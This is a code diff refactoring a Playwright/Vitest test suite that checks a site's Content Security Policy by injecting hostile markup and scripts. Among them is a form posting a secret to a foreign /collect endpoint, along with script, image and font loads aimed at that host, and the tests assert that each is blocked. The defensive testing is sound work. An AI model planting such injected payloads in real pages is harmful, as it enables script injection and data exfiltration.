@@ -1,3 +1,4 @@
+import type { Page } from 'playwright';
 import { expect, test } from 'vitest';
 import { problemsOf, rewriting, usePages } from './pages.ts';
 
@@ -17,26 +18,27 @@ const INJECTED = [
   `<form id="form" action="${FOREIGN}/collect" method="post"><input name="secret" value="1"></form>`,
 ].join('');
 
-/** Opens a page with markup injected, and records the requests that leave the site. */
-async function openPage(path: string, markup = '') {
+/** Opens a page with markup injected. Reports the directives it violated, and the requests that left the site. */
+async function open(path: string, markup = '') {
   const sent: string[] = [];
-  const page = await pages.open(path, {
-    prepare: async (opened) => {
-      await rewriting((html) => html.replace('<main', () => `${markup}<main`))(opened);
-      // Requests that the policy blocks don't get this far.
-      await opened.route(`${FOREIGN}/**`, (route) => {
-        sent.push(route.request().url());
-        return route.abort();
-      });
-    },
-  });
-  const violated = async () =>
-    (await problemsOf(page)).flatMap((problem) => /policy violated: (\S+)/.exec(problem)?.[1] ?? []);
-  return { page, violated, sent };
+  const prepare = async (opened: Page) => {
+    await rewriting((html) => html.replace('<main', () => `${markup}<main`))(opened);
+    // Requests that the policy blocks don't get this far.
+    await opened.route(`${FOREIGN}/**`, (route) => {
+      sent.push(route.request().url());
+      return route.abort();
+    });
+  };
+  const page = await pages.open(path, { prepare });
+  const reports = async () => {
+    const violated = (await problemsOf(page)).flatMap((problem) => /policy violated: (\S+)/.exec(problem)?.[1] ?? []);
+    return { violated, sent };
+  };
+  return { page, reports };
 }
 
 test('injected markup runs, styles, loads, redirects, and sends nothing', async () => {
-  const { page, violated, sent } = await openPage('/contact/', INJECTED);
+  const { page, reports } = await open('/contact/', INJECTED);
   expect(await page.evaluate(() => 'injected' in window)).toBe(false);
   const style = await page.locator('#styled').evaluate((element) => {
     const { color, backgroundColor } = getComputedStyle(element);
@@ -47,13 +49,13 @@ test('injected markup runs, styles, loads, redirects, and sends nothing', async 
   await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')!.submit());
   const inMarkup = ['base-uri', 'frame-src', 'img-src', 'object-src', 'form-action'];
   const inCode = ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
-  await expect.poll(violated).toEqual(expect.arrayContaining([...inMarkup, ...inCode]));
+  const violated = expect.arrayContaining([...inMarkup, ...inCode]);
+  await expect.poll(reports).toEqual({ violated, sent: [] });
   expect(page.url()).toBe(pages.addressOf('/contact/'));
-  expect(sent).toEqual([]);
 });
 
 test('an injected script can run no strings, write no markup, and reach nobody', async () => {
-  const { page, violated, sent } = await openPage('/');
+  const { page, reports } = await open('/');
   for (const attempt of [
     () => (document.body.innerHTML = '<img src=x>'),
     () => (document.createElement('script').text = 'window.injected = true'),
@@ -80,6 +82,6 @@ test('an injected script can run no strings, write no markup, and reach nobody',
     document.fonts.add(new FontFace('Foreign', `url(${host}/font.woff2)`));
     void document.fonts.load('16px Foreign').catch(() => {});
   }, FOREIGN);
-  await expect.poll(violated).toEqual(expect.arrayContaining(['connect-src', 'font-src', 'img-src']));
-  expect(sent).toEqual([]);
+  const violated = expect.arrayContaining(['connect-src', 'font-src', 'img-src']);
+  await expect.poll(reports).toEqual({ violated, sent: [] });
 });
